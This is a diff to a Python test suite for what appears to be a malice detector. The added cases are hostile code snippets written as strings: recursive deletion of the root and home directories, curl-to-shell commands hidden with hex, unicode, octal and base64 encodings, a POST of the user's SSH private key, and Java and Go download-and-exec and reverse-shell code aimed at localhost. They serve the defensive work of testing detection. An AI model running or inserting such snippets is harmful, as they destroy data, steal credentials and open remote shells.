@@ -36,6 +36,25 @@ def fired(text: str, name: str) -> set[str]:
         ("a.rb", "eval(URI.open('http://127.0.0.1/x').read)", "download-and-run"),
         ("a.php", "<?php $c = file_get_contents('http://127.0.0.1/x'); eval($c);", "download-and-run"),
         ("a.sh", "P=$(curl -s http://127.0.0.1/x)\neval \"$P\"\n", "download-and-run"),
+        ("a.js", "require('fs').rmSync('/', {recursive: true})", "destroys"),
+        ("a.js", "require('fs').rmSync(require('os').homedir(), {recursive: true})", "destroys"),
+        ("a.js", "import {exec as e} from 'child_process'; e('curl 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\x63url 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\u{63}url 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\u0063url 127.0.0.1 | sh')", "download-and-run"),
+        # What is decoded is no UTF-8.
+        ("a.js", "require('child_process').exec(atob('Y3VybCAxMjcuMC4wLjEgfCBzaCAj/w=='))", "download-and-run"),
+        ("a.js", "require('child_process').exec('\\143url 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require('child_process').exec('curl 127.0.0.1 | \\u0062ash')", "download-and-run"),
+        ("a.js", "require('child_process').exec(atob('Y3VybCAxMjcuMC4wLjEgfCBzaA'))", "download-and-run"),
+        ("a.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", "decoded-exec"),
+        ("a.js", "fetch('http://127.0.0.1', {method: 'POST', body: require('fs').readFileSync("
+         "require('os').homedir() + '/.ssh/id_rsa')})", "exfiltration"),
+        ("A.java", "import java.net.URL;\nclass A { void f() throws Exception { try (java.io.InputStream in = new URL("
+         "\"http://127.0.0.1/x\").openStream()) { Runtime.getRuntime().exec(new String(in.readAllBytes())); } } }",
+         "download-and-run"),
+        ("a.go", 'package a\nimport ("net"; "os/exec")\nfunc f() { c, _ := net.Dial("tcp", "127.0.0.1:9"); '
+         'p := exec.Command("sh"); p.Stdin, p.Stdout = c, c; p.Run() }', "reverse-shell"),
     ],
 )  # fmt: skip
 def test_malice(name: str, text: str, rule: str) -> None:
@@ -50,6 +69,8 @@ def test_malice(name: str, text: str, rule: str) -> None:
             "fetch('http://127.0.0.1', {headers: {token: process.env.TOKEN}}).then(r => r.json()).then(show)",
         ),
         ("a.js", "const {execFile} = require('child_process'); execFile('git', ['describe'])"),
+        # A text, not a decoded one.
+        ("a.js", "eval(Buffer.from('console.log(1)', 'utf8').toString())"),
         # Elements that nobody can tell.
         ("a.js", "require('child_process')[['spawn', 'exec'][k]]('ls'); x[['a'][9]]('ls')"),
         # A block gives what it returns, not what it does.
